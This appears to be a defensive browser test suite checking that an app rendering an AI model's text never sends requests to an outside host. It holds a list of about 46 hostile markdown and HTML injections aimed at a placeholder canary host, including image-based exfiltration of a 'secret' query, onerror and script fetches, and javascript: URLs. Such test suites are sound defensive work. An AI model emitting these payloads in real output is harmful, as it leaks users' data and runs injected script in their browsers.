"""A model that tries thirty ways to have the browser call somebody, and is only read.

The canary is a server on another loopback port that writes down every request. It hears
nothing while both guards stand, nor with either alone; without any it does, so that it
is known to listen.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import ExitStack
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.app import ROOT, RunningApp, start_app
from tests.hostile_signs import mixtures

ATTACKS = [
    "![a](CANARY/inline?q=secret)",
    "![a](<CANARY/angle> 'title')",
    "![a][r]\n\n[r]: CANARY/reference",
    "![r][]\n\n[r]: CANARY/collapsed",
    "![r]\n\n[r]: CANARY/shortcut",
    "[![a](CANARY/linked)](CANARY/link)",
    "| a |\n|---|\n| ![a](CANARY/table) |",
    "- > ![a](CANARY/nested)\n",
    "# ![a](CANARY/heading)",
    "**![a](CANARY/bold)**",
    "<img src='CANARY/img'>",
    "<IMG SRC=CANARY/capitals />",
    "<img src=x onerror=\"fetch('CANARY/onerror')\">",
    "<picture><source srcset='CANARY/srcset'><img></picture>",
    "<svg><image href='CANARY/svg'/></svg>",
    "<script>fetch('CANARY/script')</script>",
    "<script src='CANARY/script.js'></script>",
    "<link rel=stylesheet href='CANARY/style.css'>",
    "<style>@import url('CANARY/import.css'); body{background:url(CANARY/background)}</style>",
    "<div style=\"background:url('CANARY/inline-style')\">x</div>",
    "<iframe src='CANARY/frame'></iframe>",
    "<object data='CANARY/object'></object><embed src='CANARY/embed'>",
    "<video src='CANARY/video' autoplay poster='CANARY/poster'></video>",
    "<audio src='CANARY/audio' autoplay></audio>",
    "<meta http-equiv=refresh content='0;url=CANARY/refresh'>",
    "<form action='CANARY/form'><input autofocus onfocus='this.form.submit()'></form>",
    "<a href='CANARY/ping' ping='CANARY/ping2'>x</a><base href='CANARY/'>",
    "&lt;img src='CANARY/entities'&gt; &#33;&#91;a&#93;(CANARY/encoded)",
    "!\\[a](CANARY/escaped) !&#x5b;a](CANARY/hexadecimal)",
    "[x](javascript:fetch('CANARY/javascript')) <javascript:fetch('CANARY/auto')>",
    "[x](data:text/html,<script>fetch('CANARY/data')</script>)",
    ":red[![a](CANARY/directive)] :::div\n![a](CANARY/container)\n:::",
    "$\\href{CANARY/maths}{x} \\includegraphics{CANARY/graphics}$",
    "```mermaid\ngraph LR\nA[<img src='CANARY/mermaid'>] --> B\nclick B 'CANARY/click'\n```",
    "- ```mermaid\n  graph LR\n  A[<img src='CANARY/mermaid-in-list'>]\n  ```",
    "```html\n<img src='CANARY/in-code'>",
    "`![a](CANARY/in-inline-code)`",
    "~~~\n![a](CANARY/unclosed-tildes)",
    "[^1]\n\n[^1]: ![a](CANARY/footnote)",
    "\u202e![a](CANARY/bidi)\x00![a](CANARY/nul)",
    "![a](CANARY/1) " * 3 + "\n\n> text\n" + "![a](CANARY/many)" * 30,
    "CANARY/bare and //127.0.0.1/protocol-relative",
    "www.a.example`x ![a](CANARY/swallowed-backtick) `",
    "a@b.example`x ![a](CANARY/mailbox) ` https://a.example`x ![a](CANARY/address) `",
    "&#33;[a](CANARY/exclamation) !<CANARY/exclaimed> \\![a](CANARY/escaped-mark)",
    "```\n![a](CANARY/closed)\n```\n![a](CANARY/after-the-fence)",
]


MIXTURES = 300


class Canary(ThreadingHTTPServer):
    """A server that nobody has any reason to call."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Listener)
        self.heard: list[str] = []

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"


class _Listener(BaseHTTPRequestHandler):
    server: Canary

    def do_GET(self) -> None:
        self.server.heard.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_HEAD = do_OPTIONS = do_GET

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    with Canary() as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def apps(canary: Canary, tmp_path_factory: pytest.TempPathFactory
         ) -> Iterator[dict[str, RunningApp]]:
    """The page of hostile texts behind our middleware ("yes") and behind none ("no")."""
    folder = tmp_path_factory.mktemp("hostile")
    texts = folder / "texts.json"
    mixed = [mixture.replace("http://h", canary.url) for mixture in mixtures(MIXTURES, seed=1)]
    texts.write_text(json.dumps({
        "attacks": [attack.replace("CANARY", canary.url) for attack in ATTACKS], "mixed": mixed}))
    with ExitStack() as stack:
        yield {guarded: stack.enter_context(start_app(
            folder / f"home-{guarded}", script=Path(__file__).with_name("one_page_app.py"),
            env={"PYTHONPATH": str(ROOT), "PAGE": "hostile_text_page.py",
                 "HOSTILE_TEXTS": str(texts), "GUARDED": guarded},
            args=["--browser.gatherUsageStats=false"])) for guarded in ("yes", "no")}


@pytest.fixture(autouse=True)
def deaf_canary(canary: Canary) -> None:
    canary.heard.clear()


def draw(page: Page, app: RunningApp, how: str, which: str = "attacks") -> None:
    page.goto(f"{app.url}/?how={how}&which={which}")
    expect(page.get_by_text("All texts drawn")).to_be_visible(timeout=60_000)
    # Pictures, charts and prefetches begin after the text stands.
    page.wait_for_timeout(1_500)


DANGEROUS = ("img, svg image, picture, source, video, audio, iframe, object, embed, script, style, "
             "link, meta, base, form, input, [ping], [srcset], [onerror], [style*='url(']")


def elements_that_could_call(page: Page) -> list[str]:
    return page.locator(".st-key-texts").locator(DANGEROUS).evaluate_all(
        "found => found.map(element => element.outerHTML.slice(0, 200))")


@pytest.mark.parametrize("how", ["shown", "person", "streamed"])
@pytest.mark.parametrize("guarded", ["yes", "no"])
def test_the_canary_hears_nothing(page: Page, apps: dict[str, RunningApp], canary: Canary,
                                  how: str, guarded: str) -> None:
    draw(page, apps[guarded], how)
    assert canary.heard == []
    assert elements_that_could_call(page) == []


def test_no_mixture_of_signs_becomes_anything_but_text(page: Page, apps: dict[str, RunningApp],
                                                       canary: Canary) -> None:
    draw(page, apps["no"], "shown", "mixed")
    assert canary.heard == []
    assert elements_that_could_call(page) == []
    drawn = page.locator(".st-key-texts")
    expect(drawn.locator("[role=img], .stMarkdownColoredText, .stMarkdownBadge")).to_have_count(0)
    links = drawn.locator("a").evaluate_all("found => found.map(a => a.getAttribute('href'))")
    assert links
    assert all(address.startswith(("http://", "https://", "mailto:")) for address in links)


def test_links_go_where_they_say_and_only_to_the_web_or_a_mailbox(
        page: Page, apps: dict[str, RunningApp]) -> None:
    draw(page, apps["yes"], "shown")
    links = page.locator(".st-key-texts a").evaluate_all(
        "found => found.map(a => [new URL(a.href), a.rel, a.parentElement.innerText])"
        ".map(([url, rel, text]) => [url.protocol, url.hostname, rel, text])")
    assert links
    for protocol, host, relation, around in links:
        assert protocol in ("http:", "https:", "mailto:")
        assert host in around
        assert "noopener" in relation


def test_nobody_is_called_even_where_text_is_drawn_raw(
        page: Page, apps: dict[str, RunningApp], canary: Canary, complaints: list[str]) -> None:
    draw(page, apps["yes"], "raw")
    refused = [complaint for complaint in complaints if "Content Security Policy" in complaint]
    complaints.clear()
    assert refused
    assert canary.heard == []


def test_the_canary_listens(page: Page, apps: dict[str, RunningApp], canary: Canary,
                            complaints: list[str]) -> None:
    draw(page, apps["no"], "raw")
    complaints.clear()
    assert "/inline?q=secret" in canary.heard
    assert "/img" in canary.heard
